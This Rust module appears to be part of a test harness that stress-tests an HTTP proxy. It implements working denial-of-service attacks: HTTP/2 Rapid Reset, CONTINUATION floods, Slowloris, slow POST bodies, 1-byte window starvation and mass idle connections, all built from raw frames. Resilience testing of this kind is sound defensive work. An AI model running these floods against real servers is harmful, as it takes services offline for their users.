//! The attacks. Each is over after [`ATTACK`], or a little later where its connections take longer to open; all of its
//! connections are closed by then.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

const ATTACK: Duration = Duration::from_secs(6);
/// Threads of an attack that sends as much as it can.
const FLOODERS: usize = 2;
const SLOW_HEADS: usize = 2_000;
const SLOW_BODIES: usize = 1_000;
const NARROW_CONNECTIONS: usize = 50;
const NARROW_STREAMS: u32 = 20;
const IDLE: usize = 10_000;
/// Descriptors that everything but idle connections needs.
const DESCRIPTORS_ELSEWHERE: usize = 1_000;
/// Between two bytes of one slow client.
const SLOW_PACE: Duration = Duration::from_millis(500);
/// An answer that an idle connection got before it fell silent.
const ANSWER_MAX: Duration = Duration::from_secs(10);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const WHOLE: u8 = 5; // END_STREAM, END_HEADERS
const CANCEL: u32 = 8;
const STREAM_MAX: u32 = u32::MAX >> 1;

#[derive(Clone, Copy)]
pub(crate) enum Attack {
    RapidReset,
    Continuation,
    SlowHeads,
    SlowBodies,
    NarrowWindows,
    IdleHttp1,
    IdleHttp2,
}

/// What an attack came to.
pub(crate) struct Toll {
    pub(crate) told: String,
    /// Connections or streams that it held open, where that is what it is about.
    pub(crate) held: usize,
}

impl Attack {
    pub(crate) const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::Continuation,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::NarrowWindows,
        Self::IdleHttp1,
        Self::IdleHttp2,
    ];

    pub(crate) fn about(self) -> String {
        match self {
            Self::RapidReset => {
                "Rapid reset: HTTP/2 requests, each followed by its RST_STREAM, as fast as they are taken".into()
            }
            Self::Continuation => "CONTINUATION flood: header blocks that do not end, as fast as they are taken".into(),
            Self::SlowHeads => {
                format!("Slowloris: {SLOW_HEADS} HTTP/1 heads, a field every {SLOW_PACE:?}, without an end")
            }
            Self::SlowBodies => {
                format!("Slow bodies: {SLOW_BODIES} HTTP/1 POSTs, a byte of 1,000,000 every {SLOW_PACE:?}")
            }
            Self::NarrowWindows => format!(
                "1-byte windows: {NARROW_CONNECTIONS} HTTP/2 connections, {NARROW_STREAMS} answers of 1 MiB each, a byte every {SLOW_PACE:?}"
            ),
            Self::IdleHttp1 => format!("{IDLE} idle HTTP/1 connections, after one request each"),
            Self::IdleHttp2 => format!("{IDLE} idle HTTP/2 connections, after one request each"),
        }
    }

    pub(crate) fn run(self, at: SocketAddr) -> Toll {
        match self {
            Self::RapidReset => flood(at, "streams", reset_at_once),
            Self::Continuation => flood(at, "CONTINUATION frames", continue_for_ever),
            Self::SlowHeads => slowly(at, SLOW_HEADS, b"GET / HTTP/1.1\r\nhost: slow\r\n", b"x-slow: y\r\n"),
            Self::SlowBodies => {
                slowly(at, SLOW_BODIES, b"POST / HTTP/1.1\r\nhost: slow\r\ncontent-length: 1000000\r\n\r\n", b"y")
            }
            Self::NarrowWindows => narrow(at),
            Self::IdleHttp1 => idle(at, ask_http1),
            Self::IdleHttp2 => idle(at, ask_http2),
        }
    }
}

fn flood(at: SocketAddr, unit: &str, send: fn(&mut Peer, Instant) -> usize) -> Toll {
    let until = Instant::now() + ATTACK;
    let flooder = || {
        let (mut sent, mut connections) = (0, 0);
        while Instant::now() < until {
            let Ok(mut peer) = Peer::http2(at, &[]) else { continue };
            connections += 1;
            sent += send(&mut peer, until);
        }
        (sent, connections)
    };
    let tolls = thread::scope(|scope| {
        let flooders: Vec<_> = (0..FLOODERS).map(|_| scope.spawn(flooder)).collect();
        flooders.into_iter().map(|flooder| flooder.join().expect("it only gives up connections")).collect::<Vec<_>>()
    });
    let (sent, connections) = tolls.iter().fold((0, 0), |(sent, conns), toll| (sent + toll.0, conns + toll.1));
    Toll { told: format!("{sent} {unit} on {connections} connections"), held: 0 }
}

fn reset_at_once(peer: &mut Peer, until: Instant) -> usize {
    const BATCH: u32 = 50;
    let mut sent = 0;
    for first in (1..STREAM_MAX).step_by(2 * BATCH as usize) {
        let streams = (0..BATCH).map(|number| first + 2 * number);
        let both = |stream| {
            [frame(HEADERS, WHOLE, stream, &request("/")), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())]
        };
        let batch = streams.flat_map(both).flatten().collect();
        if Instant::now() >= until || peer.send(batch, until).is_err() {
            break;
        }
        sent += BATCH as usize;
    }
    sent
}

fn continue_for_ever(peer: &mut Peer, until: Instant) -> usize {
    // One field fills a frame: 11 bytes, and a value of 2^14 - 11 (RFC 7541 5.1).
    let field = [&[0, 6][..], b"x-long", &[0x7f, 0xf6, 0x7e], &[b'x'; (1 << 14) - 11]].concat();
    let mut sent = 0;
    let mut next = frame(HEADERS, 1, 1, &request("/"));
    while Instant::now() < until && peer.send(next, until).is_ok() {
        next = frame(CONTINUATION, 0, 1, &field);
        sent += 1;
    }
    sent
}

/// Opens connections, says how each begins, and then a little on each in turn.
fn slowly(at: SocketAddr, count: usize, begin: &[u8], more: &[u8]) -> Toll {
    let until = Instant::now() + ATTACK;
    let mut peers: Vec<Peer> = (0..count).filter_map(|_| Peer::connect(at).ok()).collect();
    let opened = peers.len();
    peers.retain_mut(|peer| peer.offer(begin).is_ok());
    while Instant::now() < until {
        thread::sleep(SLOW_PACE);
        peers.retain_mut(|peer| peer.offer(more).is_ok());
    }
    Toll { told: format!("{} of {opened} connections still open at its end", peers.len()), held: opened }
}

fn narrow(at: SocketAddr) -> Toll {
    let until = Instant::now() + ATTACK;
    let streams = || (0..NARROW_STREAMS).map(|number| 1 + 2 * number);
    let window_of_one = [0, 4, 0, 0, 0, 1];
    let mut peers: Vec<Peer> = (0..NARROW_CONNECTIONS).filter_map(|_| Peer::http2(at, &window_of_one).ok()).collect();
    let ask: Vec<u8> = streams().flat_map(|stream| frame(HEADERS, WHOLE, stream, &request("/large"))).collect();
    let one_more: Vec<u8> =
        streams().flat_map(|stream| frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())).collect();
    peers.retain_mut(|peer| peer.offer(&ask).is_ok());
    while Instant::now() < until {
        thread::sleep(SLOW_PACE);
        peers.retain_mut(|peer| peer.offer(&one_more).is_ok());
    }
    let held = NARROW_CONNECTIONS * NARROW_STREAMS as usize;
    Toll { told: format!("{} of {NARROW_CONNECTIONS} connections still open at its end", peers.len()), held }
}

fn idle(at: SocketAddr, ask: fn(SocketAddr) -> io::Result<Peer>) -> Toll {
    let count = IDLE.min(descriptors_max().saturating_sub(DESCRIPTORS_ELSEWHERE));
    let begun = Instant::now();
    let mut peers: Vec<Peer> = (0..count).filter_map(|_| ask(at).ok()).collect();
    let opened = peers.len();
    let took = begun.elapsed();
    thread::sleep(ATTACK);
    peers.retain_mut(|peer| peer.offer(&[]).is_ok());
    let told = format!("{opened} open after {:.1} s, {} of them at its end", took.as_secs_f64(), peers.len());
    Toll { told, held: opened }
}

/// What the system lets this process open, and the proxy that it starts.
fn descriptors_max() -> usize {
    let limits = std::fs::read_to_string("/proc/self/limits").unwrap_or_default();
    let line = limits.lines().find_map(|line| line.strip_prefix("Max open files"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or(IDLE)
}

fn ask_http1(at: SocketAddr) -> io::Result<Peer> {
    let mut peer = Peer::connect(at)?;
    peer.offer(b"GET / HTTP/1.1\r\nhost: idle\r\n\r\n")?;
    peer.wait_for(|got| got.ends_with(b"hello"))?;
    Ok(peer)
}

fn ask_http2(at: SocketAddr) -> io::Result<Peer> {
    let mut peer = Peer::http2(at, &[])?;
    peer.offer(&frame(HEADERS, WHOLE, 1, &request("/")))?;
    // The answer's last frame is DATA with or without the page; the page comes once.
    peer.wait_for(|got| got.windows(5).any(|page| page == b"hello"))?;
    peer.offer(&frame(SETTINGS, ACK, 0, &[]))?;
    Ok(peer)
}

/// A connection that never waits for the other end to read.
struct Peer(TcpStream);

impl Peer {
    fn connect(at: SocketAddr) -> io::Result<Self> {
        let stream = TcpStream::connect(at)?;
        stream.set_nodelay(true)?;
        stream.set_nonblocking(true)?;
        Ok(Self(stream))
    }

    /// With preface and these settings.
    fn http2(at: SocketAddr, settings: &[u8]) -> io::Result<Self> {
        let mut peer = Self::connect(at)?;
        peer.offer(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())?;
        Ok(peer)
    }

    /// Sends everything, reading whatever comes so that the other end goes on.
    fn send(&mut self, bytes: Vec<u8>, until: Instant) -> io::Result<()> {
        let mut left = &bytes[..];
        while !left.is_empty() && Instant::now() < until {
            let written = self.offer(left)?;
            left = &left[written..];
            if written == 0 {
                thread::sleep(Duration::from_micros(200));
            }
        }
        Ok(())
    }

    /// Sends what the socket takes, and throws away what has come.
    fn offer(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.read_some(&mut Vec::new())?;
        match self.0.write(bytes) {
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
            written => written,
        }
    }

    /// Reads until it is there.
    fn wait_for(&mut self, is_there: impl Fn(&[u8]) -> bool) -> io::Result<()> {
        let until = Instant::now() + ANSWER_MAX;
        let mut got = Vec::new();
        while !is_there(&got) {
            self.read_some(&mut got)?;
            if Instant::now() >= until {
                return Err(ErrorKind::TimedOut.into());
            }
            thread::yield_now();
        }
        Ok(())
    }

    /// What has come; an error once the connection is over.
    fn read_some(&mut self, into: &mut Vec<u8>) -> io::Result<()> {
        let mut bytes = [0; 16 * 1024];
        loop {
            match self.0.read(&mut bytes) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Ok(len) => into.extend_from_slice(&bytes[..len]),
                Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(()),
                Err(error) => return Err(error),
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, len @ ..] = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&len[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The head of a GET: three fields of HPACK's static table, and two literals.
fn request(path: &str) -> Vec<u8> {
    let len = u8::try_from(path.len()).expect("a path is short");
    [&[0x82, 0x86, 0x04, len][..], path.as_bytes(), &[0x01, 4], b"here"].concat()
}
